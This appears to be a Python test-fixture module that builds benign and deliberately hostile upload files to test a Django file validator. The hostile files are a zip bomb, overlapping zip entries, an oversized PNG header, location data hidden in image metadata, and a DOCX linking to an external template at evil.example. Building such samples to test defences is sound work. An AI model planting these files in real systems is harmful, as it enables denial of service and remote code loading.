"""Files as they come, good and hostile, each made here from its format's own description."""

from __future__ import annotations

import io
import zipfile
import zlib
from functools import cache
from typing import Any

import docx
import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

SECRET = "41.7151-44.8271"
OFFICE = "application/vnd.openxmlformats-officedocument"


def file(data: bytes, name: str = "note.pdf", said: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, said)


def pdf(*objects: bytes, head: bytes = b"", tail: bytes = b"", trailer: bytes = b"") -> bytes:
    """A whole PDF with a page and these objects."""
    made = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>",
        *objects,
    ]
    out, places = b"%PDF-1.7\n" + head, []
    for number, body in enumerate(made, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(made) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(made) + 1, trailer)
    return out + b"startxref\n%d\n%%%%EOF\n" % start + tail


def stream(inside: bytes, head: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") -> bytes:
    packed = zlib.compress(inside, 9)
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(packed), packed)


@cache
def word(*lines: str) -> bytes:
    document, out = docx.Document(), io.BytesIO()
    for line in lines or ("text",):
        document.add_paragraph(line)
    document.save(out)
    return out.getvalue()


@cache
def sheet() -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "text"
    book.save(out)
    return out.getvalue()


def slides() -> bytes:
    types = f'<Types><Override PartName="/p.xml" ContentType="{OFFICE}.presentationml.presentation.main+xml"/></Types>'
    return packed({"[Content_Types].xml": types, "p.xml": "<p/>"})


def packed(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as into:
        for name, body in parts.items():
            into.writestr(name, body)
    return out.getvalue()


def with_parts(source: bytes, **parts: Any) -> bytes:
    """The packed file with some parts changed or added; names are given with ``changed={name: bytes}``."""
    with zipfile.ZipFile(io.BytesIO(source)) as old:
        held: dict[str, str | bytes] = {name: old.read(name) for name in old.namelist()}
    return packed({**held, **parts["changed"]})


def content_types(source: bytes, old: str, new: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(source)) as parts:
        told = parts.read("[Content_Types].xml").decode()
    assert old in told
    return with_parts(source, changed={"[Content_Types].xml": told.replace(old, new)})


def linking(source: bytes, kind: str) -> bytes:
    """With a relation to something elsewhere."""
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"}{kind}" '
        'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return with_parts(source, changed={"word/_rels/settings.xml.rels": relation})


@cache
def bomb() -> bytes:
    """Ten megabytes of nothing, ten times, in a packed file of kilobytes."""
    return with_parts(word(), changed={f"word/media/{number}.bin": bytes(10 * 1024 * 1024) for number in range(7)})


def overlapping() -> bytes:
    """Two entries of the list lead to the same bytes."""
    whole = with_parts(word(), changed={"zzz.bin": b"0" * 1000, "zzy.bin": b"0" * 1000})
    first, second = whole.rfind(b"PK\x01\x02"), 0
    second = whole.rfind(b"PK\x01\x02", 0, first)
    return whole[: first + 42] + whole[second + 42 : second + 46] + whole[first + 46 :]


def picture(format_: str = "JPEG", size: tuple[int, int] = (40, 20), **more: Any) -> bytes:
    """With the place where it was taken in every corner that a picture has for such things."""
    made, out = Image.new("RGB", size, (200, 30, 30)), io.BytesIO()
    made.paste((20, 200, 30), (0, 0, 8, size[1]))
    exif = Image.Exif()
    exif[0x010E] = exif[0x013B] = SECRET  # description, artist
    exif[0x0112] = 6  # turned
    if format_ == "PNG":
        told = PngImagePlugin.PngInfo()
        told.add_text("Comment", SECRET)
        told.add_itxt("XML:com.adobe.xmp", SECRET)
        more |= {"pnginfo": told}
    else:
        more |= {"xmp": SECRET.encode()}
    if format_ == "JPEG":
        more |= {"comment": SECRET.encode()}
    made.save(out, format_, exif=exif.tobytes(), **more)
    return out.getvalue()


def wide_picture() -> bytes:
    """A PNG whose head says 60,000 × 60,000 points, of some bytes."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")

    head = (60_000).to_bytes(4, "big") * 2 + bytes([1, 0, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )
